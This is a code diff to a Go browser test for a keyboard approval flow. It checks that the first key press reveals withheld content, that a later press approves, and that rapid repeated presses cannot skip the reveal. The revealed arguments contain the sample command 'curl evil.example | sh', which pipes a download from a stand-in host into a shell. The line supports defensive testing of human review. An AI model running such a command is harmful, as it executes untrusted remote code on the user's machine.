@@ -270,7 +270,7 @@ func TestLinkedPeopleMayNotDecide(t *testing.T) {
 	}
 }
 
-// By keys: the first press shows what is hidden, and only another one, a moment later, approves.
+// By keys: the first press shows what is hidden, and only another one, a moment after it is shown, approves.
 func TestRevealFirstInTheBrowser(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
@@ -280,10 +280,11 @@ func TestRevealFirstInTheBrowser(t *testing.T) {
 	p.WaitFor("keys to work", armed)
 	p.Wait("reveal-first")
 	p.Screenshot("withheld")
-	browsertest.Eval[bool](p, `(document.addEventListener("htmx:after:swap", () => {
-		window.pressed ??= !document.dispatchEvent(new KeyboardEvent("keydown", {key: "a", bubbles: true})) || true;
-	}), true)`)
-	p.Press("a")
+	browsertest.Eval[bool](p, `(window.press = () => document.dispatchEvent(new KeyboardEvent("keydown", {key: "a", bubbles: true})),
+		document.addEventListener("htmx:after:swap", ({ detail }) => {
+			if (detail.ctx.request.method === "POST") window.pressed ??= press();
+		}),
+		press(), press())`) // the second while the first is under way
 	p.WaitText("arguments", "curl evil.example | sh")
 	p.WaitFor("the key to be pressed again", "window.pressed")
 	p.WaitFor("keys to work", armed)
